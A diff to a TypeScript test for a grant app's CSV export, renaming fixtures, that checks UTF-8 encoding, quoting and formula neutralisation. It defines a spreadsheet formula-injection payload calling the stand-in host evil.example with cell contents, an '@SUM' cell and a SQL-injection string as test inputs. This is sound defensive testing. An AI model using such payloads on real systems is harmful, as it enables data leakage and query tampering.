@@ -9,8 +9,8 @@ import { member, newClient } from '../harness/api.ts';
 const db = openDatabase(inject('databaseUrl'));
 const formula = '=HYPERLINK("http://evil.example?"&A1,"Click, please")';
 await upsertPrograms(db, [
-  { ...newProgram('bilby-formula', { title: 'Bilby' }), title: formula, contentHash: 'formula' },
-  newProgram('bilby-plain', { title: 'Ayuda para el alquiler — bilby' }),
+  { ...newProgram('ocelot-formula', { title: 'Ocelot' }), title: formula, contentHash: 'formula' },
+  newProgram('ocelot-plain', { title: 'Ayuda para el alquiler — ocelot' }),
 ]);
 
 /** A table as RFC 4180 describes it. */
@@ -47,8 +47,8 @@ async function csvOf(client: ReturnType<typeof newClient>, body: unknown) {
 }
 
 test('the file opens in Excel: UTF-8 with its mark, quoted cells, and no formula', async () => {
-  const client = await premiumMember('bilby-plain', 'bilby-formula');
-  const { body: saved } = await client.ok(postSavedGrant, { body: { grantId: 'bilby-plain' } });
+  const client = await premiumMember('ocelot-plain', 'ocelot-formula');
+  const { body: saved } = await client.ok(postSavedGrant, { body: { grantId: 'ocelot-plain' } });
   const notes = '@SUM(1+1)\n"second" line, 🏠';
   await client.ok(putSavedNotes, { params: { id: saved.id }, body: { notes, notesRevision: saved.notesRevision } });
   const { headers, bytes } = await csvOf(client, {});
@@ -56,15 +56,15 @@ test('the file opens in Excel: UTF-8 with its mark, quoted cells, and no formula
   expect(headers.get('content-disposition')).toBe('attachment; filename="grantlight-saved-programs.csv"');
   expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
   const [names = [], ...rows] = parsed(new TextDecoder().decode(bytes));
-  expect(rows.map(([title]) => title)).toEqual([`'${formula}`, 'Ayuda para el alquiler — bilby']);
+  expect(rows.map(([title]) => title)).toEqual([`'${formula}`, 'Ayuda para el alquiler — ocelot']);
   expect(rows[1]?.[names.indexOf('My note')]).toBe(`'${notes}`);
   for (const row of rows) expect(row.length).toBe(names.length);
   for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
 });
 
 test('only what is named and saved is in it', async () => {
-  const client = await premiumMember('bilby-plain', 'bilby-formula');
-  const { bytes } = await csvOf(client, { ids: ['bilby-plain', 'veteran-pension', "' OR 1=1"] });
+  const client = await premiumMember('ocelot-plain', 'ocelot-formula');
+  const { bytes } = await csvOf(client, { ids: ['ocelot-plain', 'veteran-pension', "' OR 1=1"] });
   expect(parsed(new TextDecoder().decode(bytes)).length).toBe(2);
 });
 
